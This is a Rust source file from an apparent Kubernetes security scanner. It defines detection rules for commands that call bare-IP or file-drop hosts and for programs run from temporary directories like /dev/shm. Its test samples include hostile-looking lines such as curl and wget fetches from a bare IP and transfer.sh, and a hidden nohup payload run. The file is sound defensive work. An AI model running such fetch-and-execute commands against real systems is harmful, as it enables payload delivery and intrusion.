//! Where things come from and lie: odd hosts, and directories for temporary files. Weak rules.

use super::url::{Reach, is_dotted, target};
use super::words::{only_prints, operands, words};
use super::{COMMAND, Rule, Sample, Severity, each_match};
use crate::detect::catalog::{Exposure, Remedy, Step, links};
use crate::detect::flow::is_downloader;
use crate::detect::runs::Run;
use crate::detect::{code, code_strings};
use crate::normalize::Invocation;
use crate::normalize::exec::is_shell;
use crate::normalize::path::canonical_cow;

pub(super) static RULES: &[Rule] = &[
    Rule {
        id: "cmd-suspicious-url",
        title: "Anonymous or nameless host",
        message: "names a host without a name, or one where things are left anonymously",
        meaning: "A public address instead of a name, a paste or file drop, a request catcher or a tunnel: the usual \
                  places to fetch a payload from, and to send loot to.",
        false_positives: "Services that have no name yet, tests of web hooks.",
        confirm: &[Step::Object(
            "The host. Look it up in your own inventory and in passive DNS or a reputation service; do \
                 not open it in a browser.",
        )],
        remedy: Remedy {
            exposes: &[Exposure::Data],
            attack: "Search proxy and DNS logs for the host: every other pod that asked for it belongs to \
                     the same incident.",
            benign: "Give the service a name and a certificate. Post to your own receiver instead of a \
                     public request catcher.",
        },
        severity: Severity::Low,
        points: 10,
        techniques: &["T1102", "T1105"],
        references: &[links::NETWORK_POLICY],
        check: |facts, found| each_match(facts, found, |_, _, invocation| names_odd_host(invocation)),
        samples: &[
            Sample::Hit(10, "containers: [{name: a, command: [curl, 'http://203.0.113.5/x']}]"),
            Sample::Hit(10, "containers: [{name: a, command: [wget, 'https://transfer.sh/abc/x']}]"),
            Sample::Hit(10, "containers: [{name: a, command: [git, clone, 'http://203.0.113.5/r.git']}]"),
            Sample::Miss("containers: [{name: a, command: [curl, 'http://10.0.0.5:9090/-/ready']}]"),
            Sample::Miss("containers: [{name: a, command: [curl, 'https://api.example.test/v1']}]"),
            Sample::Miss("containers: [{name: a, command: [echo, 'http://203.0.113.5/x']}]"),
        ],
        ..COMMAND
    },
    Rule {
        id: "cmd-temp-path-exec",
        title: "Program run from a temporary directory",
        message: "runs a program from a directory for temporary files",
        meaning: "What lies there was put there at run time, not by the image.",
        false_positives: "Scripts that build or unpack their tools first.",
        confirm: &[Step::Object(
            "Which command puts the file there: a build, unpacking a release, or a download.",
        )],
        remedy: Remedy {
            exposes: &[Exposure::Token],
            attack: "Get the file from a pod that still runs (kubectl cp) before it ends, and keep its \
                     SHA-256.",
            benign: "Build in one image and run from another. Set readOnlyRootFilesystem: true; mount \
                     scratch space as an emptyDir for data only.",
        },
        severity: Severity::Low,
        points: 10,
        techniques: &["T1059", "T1036.005"],
        references: &[links::SECURITY_CONTEXT, links::IMAGES],
        check: |facts, found| each_match(facts, found, runs_temporary),
        samples: &[
            Sample::Hit(10, "containers: [{name: a, command: [/tmp/x]}]"),
            Sample::Hit(10, "containers: [{name: a, command: [sh, -c, 'nohup /dev/shm/.x/run &']}]"),
            Sample::Hit(10, "containers: [{name: a, command: [bash, /var/tmp/s.sh]}]"),
            Sample::Hit(10, "containers: [{name: a, command: [sh, -c, 'cd /tmp/b && ./start.sh']}]"),
            Sample::Hit(10, "containers: [{name: a, workingDir: /tmp, command: [sh, ./start.sh]}]"),
            Sample::Miss("containers: [{name: a, command: [/app/run, /tmp/input]}]"),
            Sample::Miss("containers: [{name: a, command: [tar, xf, /tmp/a.tar]}]"),
            Sample::Miss("containers: [{name: a, command: [sh, -c, 'cd /tmp && make; cd /app; ./run']}]"),
        ],
        ..COMMAND
    },
];

/// Whether a network tool names a public address or a drop.
pub(super) fn names_odd_host(invocation: &Invocation) -> bool {
    if only_prints(&invocation.program) {
        return false;
    }
    if is_shell(&invocation.program) {
        // Its script has commands of its own.
        return false;
    }
    let odd = |word: &str| {
        !word.contains(char::is_whitespace)
            && target(word).is_some_and(|target| match target.reach() {
                Reach::Drop => true,
                Reach::Address => is_dotted(target.host) || word.contains("://"),
                _ => false,
            })
    };
    let is_net = is_downloader(invocation) || super::shells::is_netcat(&invocation.program);
    let in_code = || {
        code::text(invocation).is_some_and(|code| {
            code.contains("://")
                && code_strings::literals(code).iter().any(|text| text.contains("://") && odd(text))
        })
    };
    in_code()
        || words(invocation).any(|word| (word.contains("://") || is_net && is_dotted_word(word)) && odd(word))
        || invocation
            .redirects
            .iter()
            .any(|redirect| redirect.target.text.strip_prefix("/dev/tcp/").is_some_and(odd))
}

fn is_dotted_word(word: &str) -> bool {
    target(word).is_some_and(|target| is_dotted(target.host))
}

/// Directories that anybody may write to.
const TEMPORARY: [&str; 4] = ["/tmp/", "/var/tmp/", "/dev/shm/", "/dev/mqueue/"];

/// Whether a path lies in a directory for temporary files.
pub(super) fn is_temporary(path: &str) -> bool {
    let path = canonical_cow(path);
    TEMPORARY.iter().any(|directory| path.starts_with(directory))
}

fn runs_temporary(run: &Run<'_>, at: usize, invocation: &Invocation) -> bool {
    let takes_script = is_shell(&invocation.program) || code::language(&invocation.program).is_some();
    // A bare name is looked for in PATH.
    let is_temporary = |path: &str| is_temporary(&run.at(at, path));
    invocation.path.contains('/') && is_temporary(&invocation.path)
        || takes_script
            && code::text(invocation).is_none()
            && operands(invocation).next().is_some_and(is_temporary)
}
